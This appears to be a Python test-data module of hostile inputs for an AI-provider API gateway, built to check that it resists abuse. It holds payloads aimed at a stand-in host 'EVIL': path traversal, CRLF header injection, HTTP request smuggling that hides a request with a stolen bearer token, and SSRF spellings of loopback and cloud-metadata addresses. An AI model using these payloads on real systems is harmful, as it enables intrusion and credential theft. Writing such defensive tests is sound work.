"""Ways to make a key go where it should not. `EVIL` is the evil upstream's host and port, `PORT` its port."""

# What somebody may put between the slashes of a path.
SEGMENTS = [
    "..", ".", "../..", "..;/..", ".;/x", "..%3b/x", "...", "..%20/x", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%2e",
    "%252e%252e", "%25252e", "..%2f..", "%2f%2fEVIL", "..%5c..", "..\\..", "%5c%5cEVIL", "x\\y", "@EVIL", "x@EVIL",
    "%c0%ae%c0%ae", "%ef%bc%8e%ef%bc%8e", "%u002e%u002e", "%00", "x%00", "%0d%0aHost:%20EVIL", "%0aX", "%1f", "%7f",
    "%", "%2", "%zz", "x#y", "\xe9", "\xff\xfe", "{x}", "<x>", "[::1]", "x|y", "x^y", "`x`", '"x"', "",
]  # fmt: skip

# Whole request targets.
TARGETS = [
    "//EVIL/models", "//gateway/openai/models", "/gateway//EVIL/models", "/gateway/openai//EVIL/models",
    "/gateway/openai@EVIL/models", "/gateway/openai:80@EVIL/models", "/gateway/openai\\@EVIL/models",
    "/gateway/http://EVIL/models", "/gateway/openai/http://EVIL/models", "/gateway/EVIL/models",
    "/gateway/openai/models HTTP/1.1\r\nHost: EVIL\r\nX: /x", "/gateway/openai/models?x\\y",
    "/gateway/openai/x?%0d%0aHost:EVIL",
    "/gateway/openai/x?a#@EVIL/", "/gateway/openai/x?caf\xe9", "/gateway/openai/x?%", "/gateway/openai/x?%zz",
    "http://EVIL/models", "https://EVIL/", "http:gateway/openai/models", "gateway/openai/models",
    "EVIL", "*", "", "/gateway/openai/" + "a" * 5000, "/gateway/OPENAI/models", "/gateway/open%61i/models",
    "/gateway/nobody/models", "/gateway/", "/gateway",
]  # fmt: skip

# The absolute form, which a server has to take (RFC 9112, section 3.2.2) and whose host is nobody's to choose.
ABSOLUTE_FORMS = [
    "http://EVIL/gateway/openai/models", "https://EVIL/gateway/openai/models", "http://EVIL@EVIL/gateway/openai/models",
    "http://127.0.0.1@EVIL/gateway/openai/models", "ftp://EVIL/gateway/openai/models",
]  # fmt: skip

# Header fields that a provider gets to see, and such that end here.
GOES_ON = [
    ("Accept", "application/json"), ("Content-Type", "application/json"), ("User-Agent", "OpenAI/Python 2.1"),
    ("OpenAI-Beta", "assistants=v2"), ("X-Stainless-Lang", "python"), ("x-client-request-id", "mine"),
    ("Idempotency-Key", "once"), ("HTTP-Referer", "https://app.example"), ("X-Title", "App"),
]  # fmt: skip
ENDS_HERE = [
    ("Accept-Encoding", "gzip, br"), ("Cookie", "session=keep-out"), ("Proxy-Authorization", "Basic keep-out"),
    ("Connection", "keep-alive, X-Hop"), ("X-Hop", "keep-out"), ("Keep-Alive", "timeout=5"), ("TE", "trailers"),
    ("Forwarded", "host=EVIL"), ("X-Forwarded-For", "10.0.0.1"), ("X-Forwarded-Host", "EVIL"),
    ("X-Forwarded-Proto", "https"), ("X-Real-IP", "10.0.0.1"), ("Via", "1.1 EVIL"), ("X-Original-URL", "//EVIL/"),
    ("X-Rewrite-URL", "//EVIL/"), ("X-HTTP-Method-Override", "DELETE"), ("X-Host", "EVIL"), ("Origin", "http://EVIL"),
    ("Referer", "http://EVIL/"), ("Latchkey-Anything", "keep-out"), ("latchkey_user", "mallory"),
    ("X-Request-Id", "the-apps-own"), ("traceparent", "keep-out"), ("baggage", "user=keep-out"),
    ("Sec-Fetch-Site", "cross-site"), ("X_Api_Key", "keep-out"), ("api_key", "keep-out"),
]  # fmt: skip

# What stands between the first header fields of a POST and `HIDDEN`, which must never become a request of its own.
HIDDEN = "GET /openai/v1/smuggled HTTP/1.1\r\nHost: EVIL\r\nAuthorization: Bearer stolen\r\n\r\n"
SMUGGLING = {
    "length and chunked": "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "chunked and length": "Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n",
    "two lengths": "Content-Length: 2\r\nContent-Length: 200\r\n\r\n{}",
    "two equal lengths": "Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
    "a list of lengths": "Content-Length: 2, 200\r\n\r\n{}",
    "a length with a sign": "Content-Length: +2\r\n\r\n{}",
    "a negative length": "Content-Length: -2\r\n\r\n{}",
    "a length in hexadecimal": "Content-Length: 0x2\r\n\r\n{}",
    "a huge length": "Content-Length: 18446744073709551618\r\n\r\n{}",
    "a length behind a blank": "Content-Length : 2\r\n\r\n{}",
    "another coding": "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "chunked is not last": "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "chunked twice": "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "chunked behind a tab": "Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n",
    "chunked before a blank": "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "chunked after a control character": "Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "a folded line": "X-Folded: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n{}",
    "a folded coding": "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "a bare line feed": "X-Bare: a\nTransfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n{}",
    "a bare carriage return": "X-Bare: a\rTransfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n{}",
    "a zero byte": "X-Zero: a\x00b\r\nContent-Length: 2\r\n\r\n{}",
    "a line without a colon": "Content-Length 2\r\nContent-Length: 2\r\n\r\n{}",
    "a negative chunk": "Transfer-Encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\n",
    "an overflowing chunk": "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nx\r\n0\r\n\r\n",
    "trailers": "Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nAuthorization: Bearer stolen\r\nHost: EVIL\r\n\r\n",
    "an upgrade": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"
    "Content-Length: 2\r\n\r\n{}",
}  # fmt: skip

# Base URLs a user may send.
SPELLINGS = [
    "http://EVIL/v1", "https://EVIL/v1", "HTTPS://allowed.example/v1", "https:EVIL/v1", "https:/EVIL/v1",
    "https:///EVIL/v1", "//EVIL/v1", "EVIL", "https://allowed.example@EVIL/v1", "https://allowed.example:443@EVIL/v1",
    "https://user:pass@allowed.example/v1", "https://@allowed.example/v1", "https://allowed.example#@EVIL/v1",
    "https://allowed.example?@EVIL/v1", "https://allowed.example\\@EVIL/v1", "https://EVIL\\.allowed.example/v1",
    "https://EVIL/allowed.example", "https://allowed.example.EVIL/v1", "https://allowed.example./v1",
    "https://allowed.example:/v1", "https://allowed.example:0/v1", "https://allowed.example:0443/v1",
    "https://allowed.example:444/v1", "https://allowed.example:65979/v1", "https://allowed.example:443:443/v1",
    "https://allowed.example:+443/v1", "https://allowed.example/v1/../x", "https://allowed.example/%2e%2e/x",
    "https://allowed.example//EVIL/v1", "https://allowed.example/v1?key=x", "https://allowed.example/v1\r\nHost: EVIL",
    "https://allowed.example\t/v1", " https://allowed.example/v1", "https://allowed.example/v1 ",
    "https://allowed.example%2f@EVIL/v1", "https://allowed.example%00.EVIL/v1", "https://{resource}.example/v1",
    "https://\uff41llowed.example/v1", "https://allowed\u3002example/v1", "https://allowed.ex\u0430mple/v1",
    "https://\u212aeep.example/v1", "https://127.0.0.1:PORT/v1", "https://127.1:PORT/v1", "https://127.0.1:PORT/v1",
    "https://2130706433:PORT/v1", "https://0x7f000001:PORT/v1", "https://0x7f.1:PORT/v1", "https://0X7F.0.0.1:PORT/v1",
    "https://0177.0.0.1:PORT/v1", "https://017700000001:PORT/v1", "https://127.0.0.1.:PORT/v1",
    "https://127.000.000.001:PORT/v1", "https://0:PORT/v1", "https://0.0.0.0:PORT/v1", "https://[::1]:PORT/v1",
    "https://[::ffff:127.0.0.1]:PORT/v1", "https://[::ffff:7f00:1]:PORT/v1", "https://[::]:PORT/v1",
    "https://[0:0:0:0:0:0:0:1%25lo]:PORT/v1", "https://169.254.169.254/latest", "https://2852039166/latest",
    "https://10.0.0.1/v1", "https://127%2e0%2e0%2e1:PORT/v1", "https://\u2460\u2461\u2466.0.0.1:PORT/v1",
    "file:///etc/passwd", "gopher://EVIL/", "ftp://EVIL/", "javascript:alert(1)", "https://", "https://:443/v1", "",
]  # fmt: skip
